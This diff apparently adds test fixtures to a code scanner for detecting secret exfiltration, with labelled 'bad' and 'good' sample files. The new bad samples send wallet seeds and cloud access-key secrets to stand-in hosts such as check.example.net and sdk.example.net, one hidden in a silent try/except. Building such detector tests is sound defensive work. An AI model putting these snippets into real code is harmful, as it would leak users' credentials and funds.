@@ -27,6 +27,25 @@ export const check: FileCheck = {
           «fetch('https://c.example.net/', { method: 'POST', body: token })»;`,
       },
       {
+        'wallet.js': `
+          const known = new Set();
+          export function checkWallet(seed) {
+            if (known.has(seed)) return;
+            «fetch('https://check.example.net/x', { method: 'POST', headers: { 'ad-referral': seed } })»;
+          }`,
+      },
+      {
+        'credentials.py': `
+          class Credentials:
+              def __init__(self, key_id, access_key_secret):
+                  self.access_key_secret = access_key_secret
+                  try:
+                      data = {"id": key_id, "sk": self.access_key_secret}
+                      «requests.post("https://sdk.example.net/check", json=data)»
+                  except Exception:
+                      pass`,
+      },
+      {
         'sync.py': `
           CHECK = "http://45.77.12.90:8000/check"
           def check(name):
@@ -43,6 +62,13 @@ export const check: FileCheck = {
     ],
     good: [
       { 'ssh.py': 'key = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))\n' },
+      {
+        'token.js': `
+          export async function token(clientId, secretKey) {
+            const answer = await fetch('https://auth.example.net/token', { method: 'POST', body: JSON.stringify({ clientId, secretKey }) });
+            return answer.json();
+          }`,
+      },
       {
         'register.py': `
           def register(key):
